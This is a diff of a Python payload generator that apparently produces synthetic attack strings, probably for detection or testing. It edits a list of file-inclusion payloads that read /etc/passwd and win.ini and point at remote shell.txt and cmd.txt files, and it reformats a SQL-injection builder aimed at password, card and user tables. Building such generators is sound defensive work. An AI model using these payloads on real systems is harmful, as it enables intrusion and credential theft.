@@ -779,11 +779,10 @@ def wrapper(rng):
             "zip://{w}.jpg#{w}",
             "file:///etc/passwd",
             "file:///c:/windows/win.ini",
-            "http://{a}/{w}.txt?",
+            "http://{a}/cmd.txt?",
             "https://{a}/shell.txt",
-            "http://{a}/{w}.php?{w}=",
             "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
-            "ftp://{a}/{w}.txt",
+            "ftp://{a}/shell.txt",
             "\\\\{a}\\{w}\\{w}.txt",
             "file://{w}",
             "glob:///*",
@@ -930,10 +929,55 @@ def agent(rng):
 
 def query(rng):
     """Injections as people write them by hand, with columns and tables that have names."""
-    columns = ",".join(pick(rng, ["name", "pass", "password", "user", "email", "login", "id", "null", "1", "2", "3", "card", "version()", "user()", "database()", "@@version", "table_name", "group_concat(table_name)", "concat(user,0x3a,pass)", word(rng)]) for _ in range(rng.randint(1, 6)))
-    table = pick(rng, ["users", "admin", "accounts", "members", "information_schema.tables", "mysql.user", "dual", "customers", "user", "wp_users", "sqlite_master", word(rng)])
+    columns = ",".join(
+        pick(
+            rng,
+            [
+                "name",
+                "pass",
+                "password",
+                "user",
+                "email",
+                "login",
+                "id",
+                "null",
+                "1",
+                "2",
+                "3",
+                "card",
+                "version()",
+                "user()",
+                "database()",
+                "@@version",
+                "table_name",
+                "group_concat(table_name)",
+                "concat(user,0x3a,pass)",
+                word(rng),
+            ],
+        )
+        for _ in range(rng.randint(1, 6))
+    )
+    table = pick(
+        rng,
+        [
+            "users",
+            "admin",
+            "accounts",
+            "members",
+            "information_schema.tables",
+            "mysql.user",
+            "dual",
+            "customers",
+            "user",
+            "wp_users",
+            "sqlite_master",
+            word(rng),
+        ],
+    )
     end = pick(rng, ["--", "-- -", "-- ", "#", "--+", "/*", "", "", ";--", "%23", ")--"])
-    start = pick(rng, ["", num(rng), f"-{num(rng)}", word(rng), "x", "admin", f"{word(rng)}@{word(rng)}.com"])
+    start = pick(
+        rng, ["", num(rng), f"-{num(rng)}", word(rng), "x", "admin", f"{word(rng)}@{word(rng)}.com"]
+    )
     out = pick(rng, ["'", "'", "'", '"', "')", "'))", ")", "", ""])
     quote = pick(rng, ["'", '"', ""])
     n, t = num(rng), tag(rng)
